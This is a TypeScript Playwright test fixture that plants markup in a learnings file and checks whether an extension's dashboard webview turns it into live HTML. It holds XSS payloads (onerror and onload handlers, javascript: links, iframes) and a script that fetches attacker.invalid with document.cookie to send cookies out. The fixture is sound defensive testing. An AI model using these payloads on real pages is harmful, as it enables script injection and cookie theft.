// A learning whose title and body are markup an attacker would write into a learnings file, and a
// check of the webview's DOM for anything that markup could have become. The payloads point at
// attacker.invalid (a name that never resolves) so any attempt to load them shows as a request.
import type { Frame } from 'playwright-core';

export const ATTACKER_HOST = 'attacker.invalid';

/** One of each way text turned into HTML would run script or load something. */
export const PAYLOADS = [
  `<img src=https://${ATTACKER_HOST}/x.png onerror=alert(1)>`,
  `<script>fetch('https://${ATTACKER_HOST}/'+document.cookie)</script>`,
  `<a href="javascript:alert(1)">open</a>`,
  `<svg onload=alert(1)>`,
  `<iframe src=https://${ATTACKER_HOST}>`,
  `<link rel=stylesheet href=https://${ATTACKER_HOST}/a.css>`,
] as const;

/** One line (titles are the Summary's first line, at most 200 characters). */
export const HOSTILE_TITLE = `${PAYLOADS[0]}${PAYLOADS[3]}<script>window.xssRan=1;fetch('https://${ATTACKER_HOST}/t')</script>`;

/** A word only this learning's body holds, so a search finds it by its body. */
export const HOSTILE_BODY_WORD = 'quarantinedmarkup';

const HOSTILE_DETAILS = [
  `Text written by an agent is data (${HOSTILE_BODY_WORD}): each of these must render as characters.`,
  '',
  ...PAYLOADS,
  '',
  `Inline too: ${PAYLOADS[2]} and ${PAYLOADS[4]} then ${PAYLOADS[5]}.`,
].join('\n');

/** The learning in the LEARNINGS.md shape, to append to a workspace copy. */
export function hostileEntryMarkdown(id = 'LRN-20260301-901'): string {
  return `
## [${id}] best_practice

**Logged**: 2026-03-01T10:00:00Z
**Priority**: low
**Status**: pending
**Area**: frontend

### Summary
${HOSTILE_TITLE}

### Details
${HOSTILE_DETAILS}

---
`;
}

/**
 * Everything in the webview document that the payloads could have produced: elements of their kinds,
 * event-handler attributes, javascript: URLs or the attacker's host in an attribute that loads or navigates. The dashboard's own
 * markup has none of these (its one script is the nonce'd bundle, its one stylesheet is media/).
 * Returns one line per finding; empty means the payloads stayed text.
 */
export async function payloadElementsIn(frame: Frame): Promise<string[]> {
  // No named helpers inside: the test runner's transform would wrap them in a function the page lacks.
  return frame.evaluate((host) => {
    const found: Array<[string, Element]> = [];
    for (const el of document.querySelectorAll('img, iframe, frame, object, embed, a[href], script:not([src]):not(#_vscodeApiScript), link:not([rel="stylesheet"])')) found.push(['element', el]);
    for (const el of document.querySelectorAll('script[src], link[rel="stylesheet"]')) {
      if (!/\/media\/dashboard\.(js|css)(\?|$)/.test(el.getAttribute('src') ?? el.getAttribute('href') ?? '')) found.push(['foreign resource', el]);
    }
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (/^on/i.test(a.name)) found.push([`handler ${a.name} on`, el]);
        // Text attributes (aria-label, title) may quote the learning; only ones that load or navigate matter.
        const loads = /^(href|xlink:href|src|srcset|action|formaction|data|poster|background|style)$/i.test(a.name);
        if (loads && (/javascript:/i.test(a.value) || a.value.includes(host))) found.push([`attribute ${a.name} on`, el]);
      }
    }
    return found.map(([what, el]) => `${what} <${el.tagName.toLowerCase()} ${[...el.attributes].map((a) => `${a.name}="${a.value}"`).join(' ')}>`);
  }, ATTACKER_HOST);
}

/** Starts collecting the webview's CSP violations (each one would be an element the payload created). */
export async function recordCspViolations(frame: Frame): Promise<void> {
  await frame.evaluate(() => {
    const w = window as unknown as { cspViolations?: string[] };
    if (w.cspViolations) return;
    w.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.cspViolations!.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
}

export async function cspViolations(frame: Frame): Promise<string[]> {
  return frame.evaluate(() => (window as unknown as { cspViolations?: string[] }).cspViolations ?? []);
}
